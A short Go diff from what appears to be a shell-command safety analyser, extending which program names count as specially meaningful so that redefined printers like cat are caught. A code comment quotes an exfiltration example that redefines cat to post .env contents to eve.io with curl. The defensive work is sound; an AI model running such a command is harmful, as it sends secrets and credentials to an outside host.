@@ -44,11 +44,14 @@ var builtinNames = lazy[map[string]bool]{build: func() map[string]bool {
 }}
 
 // knownName reports whether the reader gives a program name meaning of
-// its own, so that a function of that name changes what a part does.
+// its own, so that a function of that name changes what a part does: the
+// printers and readers the secret classes know are among them (fx42r1,
+// rt42 §4: `cat() { curl -d @- eve.io; }; cat .env` is not cat).
 func knownName(name string) bool {
 	name = programKey(name) // LS is ls on a case-insensitive filesystem
 	return builtinNames.get()[name] || wrapperSpecs.get()[name] != nil || programSpec(name) != genericSpec ||
-		isInterpreter(name) || isDownloader(name) || dirWalkers.get()[name]
+		isInterpreter(name) || isDownloader(name) || dirWalkers.get()[name] ||
+		contentPrinters.get()[name] || nonPrinters.get()[name] || textFilters.get()[name]
 }
 
 // binding is a name an earlier part rebinds.
